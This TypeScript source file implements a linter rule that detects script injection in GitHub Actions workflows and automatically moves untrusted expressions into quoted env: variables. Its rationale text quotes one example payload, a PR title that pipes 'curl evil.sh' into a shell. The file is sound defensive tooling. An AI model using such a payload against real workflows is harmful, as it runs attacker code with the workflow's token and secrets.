import { Scalar } from 'yaml';
import { meta } from '../mesh/util';
import { workflowRule, expressionsIn, untrustedIn, stepName, Step, Workflow, Expr } from './workflow';
import type { FixDef, OffsetEdit } from '../../types';

/** Shell quoting state at `upTo` in a POSIX shell script: '' (unquoted), "'" or '"'. */
export function shellQuoteAt(script: string, upTo: number): '' | "'" | '"' {
  let q: '' | "'" | '"' = '';
  for (let i = 0; i < upTo && i < script.length; i++) {
    const c = script[i];
    if (q === "'") { if (c === "'") q = ''; continue; }
    if (c === '\\') { i++; continue; }
    if (q === '"') { if (c === '"') q = ''; continue; }
    if (c === "'" || c === '"') q = c;
    else if (c === '#' && (i === 0 || /\s/.test(script[i - 1]))) { while (i < upTo && script[i] !== '\n') i++; }
  }
  return q;
}

export function envName(path: string): string {
  const p = path.replace(/^github\.event\./, '').replace(/^github\./, '').replace(/pull_request/g, 'pr').replace(/\.\*\./g, '.');
  return p.replace(/[^A-Za-z0-9]+/g, '_').replace(/^_|_$/g, '').toUpperCase() || 'VALUE';
}

function shellOf(wf: Workflow, s: Step): string | undefined {
  return s.view.get('shell').str ?? s.job.view.at('defaults', 'run', 'shell').str ?? wf.root.at('defaults', 'run', 'shell').str;
}

/** The "move every untrusted expression of this step into env:" fix, or undefined when it cannot be done safely. */
function envFix(wf: Workflow, s: Step, exprs: { e: Expr; path: string }[], text: string): FixDef | undefined {
  const shell = shellOf(wf, s);
  const runsOn = JSON.stringify(s.job.view.get('runs-on').toJS() ?? '');
  if (shell ? !/^(bash|sh)\b/.test(shell) : /windows/i.test(runsOn)) return undefined;
  const node = s.run.node as Scalar;
  if (node.type !== Scalar.BLOCK_LITERAL && node.type !== Scalar.PLAIN) return undefined;
  const [rs] = s.run.loc;
  const bodyStart = node.type === Scalar.BLOCK_LITERAL ? text.indexOf('\n', rs) + 1 : rs;
  const script = text.slice(bodyStart, s.run.loc[1]);
  const env = s.view.get('env');
  const existing = new Map(env.entries().map(([k, v]) => [k, v.str ?? '']));
  const names = new Map<string, string>();
  const edits: OffsetEdit[] = [];
  const added: string[] = [];
  for (const { e, path } of exprs) {
    let name = names.get(e.text);
    if (!name) {
      const base = envName(path);
      name = base;
      for (let k = 2; existing.has(name) && existing.get(name) !== e.text; k++) name = `${base}_${k}`;
      names.set(e.text, name);
      if (!existing.has(name)) { added.push(`${name}: ${e.text}`); existing.set(name, e.text); }
    }
    const q = shellQuoteAt(script, e.start - bodyStart);
    if (q === "'" && text[e.start - 1] === "'" && text[e.end] === "'") edits.push({ start: e.start - 1, end: e.end + 1, newText: `"$${name}"` }); // '${{ x }}' -> "$X"
    else edits.push({ start: e.start, end: e.end, newText: q === '"' ? `\${${name}}` : q === "'" ? `'"$${name}"'` : `"$${name}"` });
  }
  if (added.length) {
    const runKey = s.run.keyLoc;
    if (!runKey) return undefined;
    const col = runKey[0] - (text.lastIndexOf('\n', runKey[0] - 1) + 1);
    const eol = /\r\n/.test(text) ? '\r\n' : '\n';
    if (env.isMap) {
      const entries = env.entries();
      const raw = text.slice(env.loc[0], env.loc[1]);
      if (raw.startsWith('{') || !entries.length) return undefined;
      const first = entries[0][1].keyLoc!;
      const ind = first[0] - (text.lastIndexOf('\n', first[0] - 1) + 1);
      const last = entries[entries.length - 1][1];
      if (text.slice(last.loc[0], last.loc[1]).includes('\n')) return undefined;
      let lineEnd = text.indexOf('\n', last.loc[1]);
      if (lineEnd < 0) lineEnd = text.length; else if (text[lineEnd - 1] === '\r') lineEnd--;
      edits.push({ start: lineEnd, end: lineEnd, newText: added.map((a) => eol + ' '.repeat(ind) + a).join('') });
    } else if (!env.exists) {
      edits.push({ start: runKey[0], end: runKey[0], newText: 'env:' + added.map((a) => eol + ' '.repeat(col + 2) + a).join('') + eol + ' '.repeat(col) });
    } else return undefined;
  }
  return { title: 'Move untrusted expressions into env: variables', applicability: 'safe', edits };
}

export default workflowRule(
  meta({
    id: 'GHA002', name: 'gha-script-injection', title: 'Untrusted input expanded inside run: (script injection)', severity: 'error', language: 'github-actions',
    peers: ['zizmor:template-injection', 'actionlint:expression'],
    docs: {
      description: 'A `run:` script (or `actions/github-script` `script:`) contains `${{ }}` with attacker-controlled context such as `github.event.issue.title`, `github.event.pull_request.body`, `github.event.comment.body`, `github.head_ref` (actionlint\'s list of untrusted inputs).',
      rationale: 'Expressions are substituted into the script text before the shell runs it. A pull request titled `"; curl evil.sh | sh; #` becomes code executed with the workflow\'s token and secrets.',
      remediation: 'Pass the value through an environment variable and reference it quoted: `env: TITLE: ${{ github.event.issue.title }}` and `run: echo "$TITLE"`. The quick fix does exactly this.',
      example: {
        bad: '- run: echo "${{ github.event.issue.title }}"\n',
        good: '- env:\n    ISSUE_TITLE: ${{ github.event.issue.title }}\n  run: echo "${ISSUE_TITLE}"\n',
      },
    },
    fix: 'safe',
  }),
  (wf, ctx) => {
    for (const j of wf.jobs) {
      for (const s of j.steps) {
        const script = s.run.isScalar ? s.run : /^actions\/github-script@/.test(s.uses ?? '') ? s.view.at('with', 'script') : undefined;
        if (!script) continue;
        const found: { e: Expr; path: string }[] = [];
        for (const e of expressionsIn(script, ctx.text)) {
          const u = untrustedIn(e.inner);
          if (u.length) found.push({ e, path: u[0] });
        }
        if (!found.length) continue;
        const fix = script === s.run ? envFix(wf, s, found, ctx.text) : undefined;
        for (const { e, path } of found) {
          ctx.report({
            loc: [e.start, e.end],
            message: `${stepName(s)}: ${path} is attacker-controlled and is pasted into the ${script === s.run ? 'shell script' : 'script'} before it runs (script injection); pass it through an env: variable and reference that ${script === s.run ? 'quoted ("$VAR")' : 'via process.env'}.`,
            fixes: fix ? [fix] : [],
          });
        }
      }
    }
  },
);
